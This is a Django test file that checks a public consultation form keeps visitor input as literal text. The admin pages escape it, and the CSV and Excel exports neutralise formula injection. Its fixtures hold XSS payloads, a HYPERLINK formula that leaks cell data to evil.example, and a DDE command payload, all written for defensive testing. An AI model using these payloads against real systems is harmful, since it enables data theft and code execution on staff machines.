"""What a visitor types is kept exactly as written and shown as text, never run.

Markup typed into the public form reaches Customer Service's listing, the
inspect page, the Excel and CSV exports and the acknowledgement email; in each
it must arrive as the same literal text (P1.2; DESIGN.md "Data rules").
"""

import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from workflows.consultations.models import Consultation
from workflows.core.models import OutboundMessage

from .factories import ConsultationMessageFactory

pytestmark = pytest.mark.django_db

URLS = "wagtailsnippets_consultations_consultation"

MARKUP = {
    "customer_name": '<script>alert("name")</script>王',
    "company": "<img src=x onerror=alert('company')>",
    "subject": '<b>Excavator</b> & <a href="javascript:alert(1)">crane</a>',
    "question": '</textarea><script>alert("question")</script> &lt;already escaped&gt;',
}
#: What the admin listing shows of a consultation.
LISTED = ["customer_name", "subject"]
#: What the acknowledgement repeats to the customer.
ACKNOWLEDGED = ["customer_name", "subject", "question"]

#: Text a spreadsheet program would run as a formula, one per starting character.
FORMULAS = {
    "=": {
        "customer_name": "=1+2",
        "company": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
        "subject": "=cmd|' /C calc'!A0",
        "question": "=SUM(A1:A9)",
    },
    "+": {"customer_name": "+1+2", "company": "+A1", "subject": "+SUM(A1)", "question": "+1"},
    "-": {"customer_name": "-1+2", "company": "-A1", "subject": "-SUM(A1)", "question": "-1"},
    "@": {"customer_name": "@SUM(A1)", "company": "@A1", "subject": "@x", "question": "@1"},
}


@pytest.fixture
def submitted(send, form_page):
    """Send the form with `fields` typed in; return the consultation it created."""

    def submit(fields):
        response = send(ConsultationMessageFactory(**fields))
        assert response.status_code == 302
        return Consultation.objects.get()

    return submit


@pytest.fixture
def customer_service(cs):
    browser = Client()
    browser.force_login(cs)
    return browser


def export(browser, spreadsheet_format):
    response = browser.get(reverse(f"{URLS}:list"), {"export": spreadsheet_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_row(browser, reference):
    rows = csv.reader(io.StringIO(export(browser, "csv").decode("utf-8-sig")))
    return next(row for row in rows if row and row[0] == reference)


def xlsx_row(browser, reference):
    sheet = openpyxl.load_workbook(io.BytesIO(export(browser, "xlsx"))).active
    return next(row for row in sheet.iter_rows() if row[0].value == reference)


class TestMarkupTypedIntoTheForm:
    def test_every_text_field_is_stored_as_the_literal_text(self, submitted):
        consultation = submitted(MARKUP)

        assert {field: getattr(consultation, field) for field in MARKUP} == MARKUP

    @pytest.mark.parametrize(
        ("field", "value"),
        [
            ("email", "<script>alert(1)</script>@example.com"),
            ("email", '"<script>alert(1)</script>"@example.com'),
            ("phone", "<script>alert(1)</script>"),
            ("phone", "(02) <b>2345</b>-6789"),
        ],
    )
    def test_email_and_phone_cannot_hold_markup(self, send, form_page, field, value):
        response = send(ConsultationMessageFactory(**{field: value}))

        assert response.status_code == 400
        assert not Consultation.objects.exists()
        assert not OutboundMessage.objects.exists()

    @pytest.mark.parametrize("field", LISTED)
    def test_the_admin_listing_shows_it_as_text(self, submitted, customer_service, field):
        submitted(MARKUP)

        response = customer_service.get(reverse(f"{URLS}:list"))

        assert response.status_code == 200
        assert escape(MARKUP[field]) in response.text
        assert MARKUP[field] not in response.text

    @pytest.mark.parametrize("field", MARKUP)
    def test_the_inspect_page_shows_it_as_text(self, submitted, customer_service, field):
        consultation = submitted(MARKUP)

        response = customer_service.get(reverse(f"{URLS}:inspect", args=[consultation.pk]))

        assert response.status_code == 200
        assert escape(MARKUP[field]) in response.text
        assert MARKUP[field] not in response.text

    def test_the_csv_export_holds_the_literal_text(self, submitted, customer_service):
        consultation = submitted(MARKUP)

        row = csv_row(customer_service, consultation.reference)

        for text in MARKUP.values():
            assert text in row
            assert escape(text) not in row

    def test_the_xlsx_export_holds_the_literal_text(self, submitted, customer_service):
        consultation = submitted(MARKUP)

        values = [cell.value for cell in xlsx_row(customer_service, consultation.reference)]

        for text in MARKUP.values():
            assert text in values
            assert escape(text) not in values

    def test_the_acknowledgement_email_is_plain_text_and_repeats_nothing_typed(self, submitted):
        consultation = submitted(MARKUP)

        email = mail.outbox[0]
        assert email.content_subtype == "plain"
        assert not getattr(email, "alternatives", None)
        stored = OutboundMessage.objects.get(object_id=str(consultation.pk))
        # Whatever a visitor types must not reach the address they typed (no relay).
        for field in ACKNOWLEDGED:
            assert MARKUP[field] not in email.body
            assert escape(MARKUP[field]) not in email.body
            assert MARKUP[field] not in stored.body


class TestFormulaTypedIntoTheForm:
    """Text that looks like a formula must not run when staff open an export (CSV injection)."""

    @pytest.mark.parametrize("start", FORMULAS)
    def test_no_csv_cell_starts_like_a_formula(self, submitted, customer_service, start):
        consultation = submitted(FORMULAS[start])

        row = csv_row(customer_service, consultation.reference)

        assert [value for value in row if value.startswith(start)] == []
        for text in FORMULAS[start].values():
            assert any(text in value for value in row), f"{text!r} was not exported"

    @pytest.mark.parametrize("start", FORMULAS)
    def test_no_xlsx_cell_starts_like_a_formula(self, submitted, customer_service, start):
        consultation = submitted(FORMULAS[start])

        row = xlsx_row(customer_service, consultation.reference)

        texts = [cell.value for cell in row if isinstance(cell.value, str)]
        # Text that looks like a formula is written as text with Excel's quote prefix.
        formula_like = [cell for cell in row if str(cell.value or "").startswith(start)]
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)
        assert [cell.value for cell in row if cell.data_type == "f"] == []
        for text in FORMULAS[start].values():
            assert any(text in value for value in texts), f"{text!r} was not exported"
